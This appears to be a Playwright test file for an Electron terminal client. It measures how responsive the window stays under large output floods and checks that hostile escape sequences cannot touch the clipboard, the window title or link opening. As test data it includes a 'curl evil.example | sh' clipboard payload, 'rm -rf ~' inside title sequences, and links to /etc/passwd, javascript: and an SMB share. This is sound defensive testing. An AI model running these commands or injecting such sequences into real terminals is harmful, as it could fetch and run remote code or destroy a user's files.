import { existsSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { ElectronApplication, Page } from '@playwright/test';
import { firstWindow } from '../support/launch.ts';
import { startShellServer } from '../support/raw-ssh-servers.ts';
import { openShellAt, signInToShell } from '../support/shell-steps.ts';
import { expect, freshness, refresh, test } from '../support/signed-in.ts';
import { sshdMissing, startSshd } from '../support/sshd.ts';
import { watchWindow } from '../support/stalls.ts';
import { startTrayHost } from '../support/tray-host.ts';
import { middleOf, terminalRows } from '../support/window-steps.ts';

/**
 * What a person takes for a window that hangs, and for a main process that does: of work in one task, and by the clock. How
 * far below that they stay depends on the machine, and on what else runs on it: no test is to hang on that.
 */
const longestStallMs = 500;
const longestMainGapMs = 1_000;

/** The kernel's terminal, which makes each line's end into two bytes, would be the slowest part by far: so it need not. */
const flood = (line: string, bytes: number): string =>
  `stty -opost; yes "${line}"$'\\r' | head -c ${bytes}; stty opost; echo; echo flood-over\n`;

test('500 MB of yes: the window and main stay live, and so does the keyboard', async ({
  launchSignedIn,
  sandbox,
  session,
}) => {
  const missing = sshdMissing();
  test.skip(missing !== null, missing ?? '');
  test.setTimeout(400_000);
  const sshd = await startSshd();
  // Closing the window leaves the app in the tray then.
  const tray = await startTrayHost(session.keyring?.busAddress);
  try {
    const doneFile = join(sshd.home, 'done');
    await writeFile(join(sshd.home, 'flood.sh'), `${flood('y', 500_000_000)}touch ${doneFile}\n`);
    const { app, window: page } = await launchSignedIn();
    const item = await tray.item();
    await openShellAt(page, sandbox, 'api-prod-1', sshd);
    await signInToShell(page, sshd.password);
    await expect(terminalRows(page)).toContainText('$');

    const ended = await watchFlood(app, page, '. ./flood.sh');
    await drawnFrames(page, 300);
    await ended('yes in view');

    // xterm takes 1 to 5 MB/s of lines that short, which is minutes for all. What nobody looks at goes into the
    // session's ring, as fast as the connection carries it.
    await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.close());
    await expect.poll(() => app.windows().length).toBe(0);
    await expect.poll(() => existsSync(doneFile), { timeout: 180_000 }).toBe(true);
    await item.click(['Open Evorxa']);
    const again = await firstWindow(app);
    await expect(terminalRows(again)).toContainText('flood-over');

    await stopsByKeyboard(again);
  } finally {
    tray.close();
    await sshd.stop();
  }
});

test('200 MB of long lines: the window and main stay live, and so does the keyboard', async ({
  launchSignedIn,
  sandbox,
}) => {
  const missing = sshdMissing();
  test.skip(missing !== null, missing ?? '');
  test.slow();
  const sshd = await startSshd();
  try {
    await writeFile(join(sshd.home, 'flood.sh'), flood('7'.repeat(150), 200_000_000));
    const { app, window: page } = await launchSignedIn();
    await openShellAt(page, sandbox, 'api-prod-1', sshd);
    await signInToShell(page, sshd.password);
    await expect(terminalRows(page)).toContainText('$');

    const ended = await watchFlood(app, page, '. ./flood.sh');
    await expect(terminalRows(page)).toContainText('flood-over', { timeout: 90_000 });
    await ended('200 MB of long lines');

    await stopsByKeyboard(page);
  } finally {
    await sshd.stop();
  }
});

test('hostile output: the clipboard is untouched, nothing is opened, nothing is sent back', async ({
  launchSignedIn,
  sandbox,
}) => {
  const server = await startShellServer();
  try {
    const { app, window: page } = await launchSignedIn();
    const title = await page.title();
    const openedUrls = await watchOpenedUrls(app);
    await app.evaluate(({ clipboard }) => clipboard.writeText('the person’s own'));
    await openShellAt(page, sandbox, 'api-prod-1', server);
    await signInToShell(page, 'any');
    await server.opened;
    const rows = page.locator('.xterm-rows');
    const sendAndSee = async (output: string, mark: string): Promise<void> => {
      await server.send(`${output}${mark}\r\n`);
      await expect(rows).toContainText(mark);
    };

    await test.step('OSC 52 neither writes nor reads the clipboard', async () => {
      const stolen = Buffer.from('curl evil.example | sh').toString('base64');
      await sendAndSee(`\x1b]52;c;${stolen}\x07\x1b]52;c;?\x07\x1b]52;p;?\x1b\\`, 'after-osc-52');
      expect(await app.evaluate(({ clipboard }) => clipboard.readText())).toBe('the person’s own');
    });

    await test.step('the title is neither reported nor taken', async () => {
      await sendAndSee(
        '\x1b]0;rm -rf ~\r\x07\x1b]2;rm -rf ~\x07\x1b[21t\x1b[20t\x1b[18t\x1b[14t',
        'after-csi-21t',
      );
      expect(await page.title()).toBe(title);
    });

    await test.step('a link to a file or a script opens nothing; one to https does, after a question', async () => {
      const link = (url: string, text: string): string => `\x1b]8;;${url}\x1b\\${text}\x1b]8;;\x1b\\\r\n`;
      await sendAndSee(
        link('file:///etc/passwd', 'file-link') +
          link('javascript:alert(1)', 'script-link') +
          link('smb://evil/share', 'share-link') +
          link('https://example.com/ok', 'good-link'),
        'after-osc-8',
      );
      for (const text of ['file-link', 'script-link', 'share-link', 'good-link']) {
        // By its place: the row under the pointer is drawn again while a link lights up, so no element of it stays.
        const { x, y } = await middleOf(rows.getByText(text, { exact: true }));
        await page.mouse.move(x, y);
        await page.mouse.click(x, y);
      }
      expect(await openedUrls()).toEqual([]);
      await page.getByRole('alertdialog').getByRole('button', { name: 'Open link' }).click();
      await expect.poll(openedUrls).toEqual(['https://example.com/ok']);
    });

    await test.step('an endless OSC is dropped, and the window stays live', async () => {
      const liveness = await watchWindow(app, page);
      await server.send('\x1b]0;');
      for (let sent = 0; sent < 32; sent += 1) await server.send(Buffer.alloc(1024 * 1024, 'A'));
      await refresh(page);
      await expect(freshness(page)).toHaveText('Live');
      await sendAndSee('\x07', 'after-endless-osc');
      const { longestFrameMs, longestTaskMs } = await liveness();
      console.log(
        `32 MB of one OSC: ${longestFrameMs} ms without a frame at most, ${longestTaskMs} ms in one task`,
      );
      expect(longestTaskMs).toBeLessThan(longestStallMs);
    });

    await test.step('a stall would have been seen', async () => {
      const liveness = await watchWindow(app, page);
      // In a task of its own: what DevTools runs is none.
      await page.evaluate(
        () =>
          new Promise<void>((resolve) => {
            setTimeout(() => {
              const endMs = performance.now() + 1_500;
              while (performance.now() < endMs);
              resolve();
            });
          }),
      );
      await drawnFrames(page, 3);
      expect((await liveness()).longestTaskMs).toBeGreaterThan(longestStallMs);
    });

    expect(server.received()).toBe('');
    expect(await app.evaluate(({ clipboard }) => clipboard.readText())).toBe('the person’s own');
  } finally {
    await server.close();
  }
});

/** Starts a command that floods, and uses the window meanwhile. The answer, called at its end, judges how live it was. */
async function watchFlood(
  app: ElectronApplication,
  page: Page,
  command: string,
): Promise<(title: string) => Promise<void>> {
  const liveness = await watchWindow(app, page);
  const mainGap = await watchMain(app);
  const startedMs = performance.now();
  await page.keyboard.type(command);
  await page.keyboard.press('Enter');
  await refresh(page);
  await page.getByRole('link', { name: 'Wallet' }).click();
  await expect(page.getByRole('heading', { name: 'Wallet', level: 1 })).toBeVisible();
  await page.getByRole('link', { name: 'Instances' }).click();
  await expect(freshness(page)).toHaveText('Live');
  const clicksMs = performance.now() - startedMs;
  return async (title) => {
    const seconds = ((performance.now() - startedMs) / 1_000).toFixed(1);
    const [{ longestFrameMs, longestTaskMs }, mainMs] = [await liveness(), await mainGap()];
    console.log(
      `${title} in ${seconds} s; ${longestFrameMs} ms without a frame at most, ${longestTaskMs} ms of work in one task; ` +
        `main ${mainMs} ms late at most; a poll and two places took ${Math.round(clicksMs)} ms`,
    );
    expect(longestTaskMs).toBeLessThan(longestStallMs);
    expect(mainMs).toBeLessThan(longestMainGapMs);
  };
}

/** Resolves when the window has drawn that many frames more. */
async function drawnFrames(page: Page, count: number): Promise<void> {
  await page.evaluate(
    (frames) =>
      new Promise<void>((resolve) => {
        const draw = (left: number): void => {
          if (left === 0) resolve();
          else requestAnimationFrame(() => draw(left - 1));
        };
        draw(frames);
      }),
    count,
  );
}

/** The prompt is back, and Ctrl+C ends another flood. */
async function stopsByKeyboard(page: Page): Promise<void> {
  const rows = terminalRows(page);
  await page.getByRole('tabpanel').getByRole('textbox').focus();
  await page.keyboard.type('yes');
  await page.keyboard.press('Enter');
  await expect(rows).not.toContainText('flood-over');
  await page.keyboard.press('Control+c');
  await expect(rows).toContainText(/\^C.*\$/);
}

/** Measures how late main's timers of 10 ms come at most; the answer ends the watch. */
async function watchMain(app: ElectronApplication): Promise<() => Promise<number>> {
  await app.evaluate(() => {
    const watch = { longestMs: 0, lastMs: performance.now() };
    const timer = setInterval(() => {
      const nowMs = performance.now();
      watch.longestMs = Math.max(watch.longestMs, nowMs - watch.lastMs - 10);
      watch.lastMs = nowMs;
    }, 10);
    Object.assign(globalThis, { stallWatch: watch, stallTimer: timer });
  });
  return () =>
    app.evaluate(() => {
      const { stallWatch, stallTimer } = globalThis as unknown as {
        stallWatch: { longestMs: number };
        stallTimer: NodeJS.Timeout;
      };
      clearInterval(stallTimer);
      return Math.round(stallWatch.longestMs);
    });
}

/** Takes the place of the system's browser and keeps what it was asked to open. */
async function watchOpenedUrls(app: ElectronApplication): Promise<() => Promise<readonly string[]>> {
  await app.evaluate(({ shell }) => {
    const urls: string[] = [];
    Object.assign(globalThis, { openedUrls: urls });
    shell.openExternal = (url) => {
      urls.push(url);
      return Promise.resolve();
    };
  });
  return () => app.evaluate(() => (globalThis as unknown as { openedUrls: string[] }).openedUrls);
}
